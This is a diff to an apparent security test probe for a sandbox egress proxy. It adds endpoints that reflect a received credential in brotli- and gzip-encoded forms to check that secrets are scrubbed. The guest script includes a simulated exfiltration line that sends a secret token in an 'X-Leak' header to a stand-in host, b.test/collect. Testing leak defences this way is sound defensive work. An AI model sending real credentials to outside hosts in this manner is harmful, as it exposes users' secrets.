@@ -21,7 +21,9 @@ import threading
 from pathlib import Path
 
 sys.path.insert(0, str(Path(__file__).parent))
+sys.path.insert(0, str(Path(__file__).parents[1] / "egress"))
 from egress_probe import make_ca_and_cert
+from egress_upstream import reflect_parts, reflected_forms
 
 from aamp.audit import AuditLog
 from aamp.config import Settings
@@ -48,16 +50,31 @@ curl -sS -H 'Authorization: Bearer {{secret:crm_token}}' https://a.test/whoami \
   > /workspace/service-guest-header.txt
 curl -sS --cacert /workspace/test-ca.pem -H 'X-Leak: {{secret:crm_token}}' \
   https://b.test/collect > /workspace/exfil.txt
+for coding in br gzip; do
+  curl -sS -D /workspace/reflect-$coding.head https://a.test/reflect/$coding \
+    > /workspace/reflect-$coding.txt
+done
 """
+REFLECTED = ["reflect-br.head", "reflect-br.txt", "reflect-gzip.head", "reflect-gzip.txt"]
 
 
 class Echo(http.server.BaseHTTPRequestHandler):
-    """Answers with the credential it received, so a scrubbing failure would show it."""
+    """Answers with the credential it received, so a scrubbing failure would show it;
+    `/reflect/CODING` with every form of it (egress_upstream.reflected_forms)."""
 
     def do_GET(self) -> None:
         seen = {k.lower(): v for k, v in self.headers.items()}
         seen["host-served"] = self.headers.get("Host", "")
-        SEEN.append(seen)
+        SEEN.append({**seen, "path": self.path})
+        if self.path.startswith("/reflect/"):
+            lines, data = reflect_parts(reflected_forms(seen), self.path.split("/")[2])
+            self.send_response(200)
+            for line in lines:
+                self.send_header(*line.split(": ", 1))
+            self.send_header("Content-Length", str(len(data)))
+            self.end_headers()
+            self.wfile.write(data)
+            return
         body = json.dumps({"you_sent": seen.get("authorization"), "leak": seen.get("x-leak")})
         data = body.encode()
         self.send_response(200)
@@ -112,7 +129,7 @@ async def probe(settings: Settings, ca_dir: Path, test_ca: Path, value: str) -> 
                 await channel.run(["touch", "/tmp/.probe-start"])
                 _, stdout, stderr = await channel.run(["sh", "-c", GUEST], timeout=120)
                 out["guest_output"] = (stdout + stderr).decode(errors="replace")
-                for name in ("service.txt", "service-guest-header.txt", "exfil.txt"):
+                for name in ("service.txt", "service-guest-header.txt", "exfil.txt", *REFLECTED):
                     stream = await channel.get(name)
                     out[name] = b"".join([c async for c in stream]).decode(errors="replace")
                 # Everything the guest could hold, brought out to be searched on the host.
